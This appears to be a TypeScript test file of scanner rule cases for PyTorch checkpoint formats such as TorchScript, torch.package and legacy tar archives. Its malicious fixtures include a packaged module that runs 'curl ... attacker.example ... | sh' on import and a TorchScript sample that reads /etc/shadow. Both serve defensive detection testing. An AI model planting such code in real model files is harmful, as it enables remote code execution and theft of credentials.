/** Rule cases of the PyTorch rules (see zip/cases.ts). */
import type { RuleCases } from '../../rules/index.js';
import { ruleCases } from '../../rules/index.js';
import { pickle, tuple } from '../../../test-fixtures/pickle-builder.js';
import { buildTar } from '../../../test-fixtures/tar-builder.js';
import { buildTorchZip, buildZip } from '../../../test-fixtures/zip-builder.js';

const benign = (): Uint8Array => pickle((b) => b.proto(2).emptyDict().stop());
/** data.pkl returning persistent_load(('storage', torch.FloatStorage, key, 'cpu', 4)) per key. */
const storages = (...keys: string[]): Uint8Array =>
  pickle((b) => {
    b.proto(2).emptyList().mark();
    for (const k of keys) b.mark().str('storage').global('torch', 'FloatStorage').str(k).str('cpu').binInt1(4).tuple().binPersId();
    b.appends().stop();
  });
const clean = { name: 'a torch.save-style checkpoint', files: { 'model.pt': () => buildTorchZip({ dataPkl: storages('0'), storages: { '0': new Uint8Array(16) } }) } };

function legacyTar(): Uint8Array {
  const count = pickle((b) => b.proto(2).binInt1(1).stop());
  const args = pickle((b) => b.proto(2).str('0').str('cpu').global('torch', 'FloatStorage').tuple3().stop());
  const raw = new Uint8Array(24);
  raw[0] = 4;
  const views = pickle((b) => b.proto(2).emptyList().stop());
  const targs = pickle((b) => b.proto(2).str('1').str('0').global('torch', 'FloatTensor').tuple3().stop());
  const dims = new Uint8Array(32);
  dims[0] = 1;
  dims[8] = 4;
  dims[16] = 1;
  return buildTar({
    members: [
      { name: 'sys_info', data: pickle((b) => b.proto(2).emptyDict().stop()) },
      { name: 'pickle', data: benign() },
      { name: 'tensors', data: new Uint8Array([...count, ...targs, ...dims]) },
      { name: 'storages', data: new Uint8Array([...count, ...args, ...raw, ...views]) },
    ],
  });
}

/** A TorchScript archive (torch.jit.save layout) whose code/ program is `code`. */
const torchscript = (code: string): Uint8Array =>
  buildTorchZip({
    root: 'net',
    dataPkl: pickle((b) => b.proto(2).global('__torch__', 'Net').emptyTuple().newObj().emptyDict().buildOp().stop()),
    extra: [
      { name: 'net/code/__torch__.py', data: code },
      { name: 'net/code/__torch__.py.debug_pkl', data: pickle((b) => b.proto(2).global('torch.jit._pickle', 'build_intlist').value(tuple([1, 2])).reduce().stop()) },
      { name: 'net/constants.pkl', data: pickle((b) => b.proto(2).emptyTuple().stop()) },
    ],
  });
const SCRIPT_OK = 'class Net(Module):\n  def forward(self: __torch__.Net, x: Tensor) -> Tensor:\n    return torch.relu(x)\n';
const SCRIPT_READ = 'class Net(Module):\n  def forward(self: __torch__.Net, x: Tensor) -> Tensor:\n    s = torch.from_file("/etc/shadow", False, 4096, dtype=0)\n    return torch.add(x, s)\n';

/** A torch.package archive (PackageExporter layout) shipping `mymodels/net.py` = `source`. */
const torchPackage = (source: string): Uint8Array =>
  buildZip({
    entries: [
      { name: 'pkg/.data/version', data: '6\n' },
      { name: 'pkg/model/model.pkl', data: pickle((b) => b.proto(3).global('mymodels.net', 'Net').emptyTuple().newObj().emptyDict().buildOp().stop()) },
      { name: 'pkg/mymodels/net.py', data: source },
      { name: 'pkg/.data/extern_modules', data: 'torch\n' },
    ],
  });
const PKG_OK = 'import torch\n\nclass Net(torch.nn.Module):\n    def forward(self, x):\n        return x\n';
const PKG_EVIL = 'import os\nos.system("curl -s http://attacker.example/x | sh")\n\nclass Net:\n    pass\n';

export const PYTORCH_RULE_CASES: readonly RuleCases[] = [
  ruleCases('pytorch/torchscript-code', {
    valid: [{ name: 'a TorchScript program of ordinary operators', files: { 'model.pt': () => torchscript(SCRIPT_OK) } }],
    invalid: [{ name: 'TorchScript that reads a file with torch.from_file', files: { 'model.pt': () => torchscript(SCRIPT_READ) }, expect: { severity: 'high', messageIncludes: 'torch.from_file' } }],
  }),
  ruleCases('pytorch/package-code', {
    valid: [{ name: 'a torch.package archive shipping an ordinary module', files: { 'model.pt': () => torchPackage(PKG_OK) } }],
    invalid: [{ name: 'a torch.package archive whose shipped module runs a shell command on import', files: { 'model.pt': () => torchPackage(PKG_EVIL) }, expect: { severity: 'critical', messageIncludes: 'os.system' } }],
  }),
  ruleCases('pytorch/missing-record', {
    valid: [clean],
    invalid: [
      { name: 'data.pkl only under a folder other than the first entry\u2019s', files: { 'model.pt': () => buildZip({ entries: [{ name: 'evil/readme', data: 'x' }, { name: 'archive/data.pkl', data: benign() }, { name: 'archive/version', data: '3' }] }) } },
      { name: 'no version record', files: { 'model.pt': () => buildTorchZip({ dataPkl: benign(), omit: ['version'] }) }, expect: { severity: 'low' } },
    ],
  }),
  ruleCases('pytorch/missing-storage', {
    valid: [clean],
    invalid: [{ name: 'data.pkl references storage 7, absent', files: { 'model.pt': () => buildTorchZip({ dataPkl: storages('0', '7'), storages: { '0': new Uint8Array(16) } }) }, expect: { member: 'archive/data.pkl', messageIncludes: 'archive/data/7' } }],
  }),
  ruleCases('pytorch/multiple-roots', {
    valid: [clean],
    invalid: [{ name: 'a second data.pkl under another folder', files: { 'model.pt': () => buildTorchZip({ dataPkl: benign(), extra: [{ name: 'shadow/data.pkl', data: benign() }] }) } }],
  }),
  ruleCases('pytorch/legacy-tar-format', {
    valid: [clean, { name: 'an ordinary tar of files', files: { 'bundle.tar': () => buildTar({ members: [{ name: 'pickle.txt', data: 'not a checkpoint' }] }) } }],
    invalid: [{ name: 'a PyTorch < 0.4 tar checkpoint', files: { 'old.pt': legacyTar } }],
  }),
];
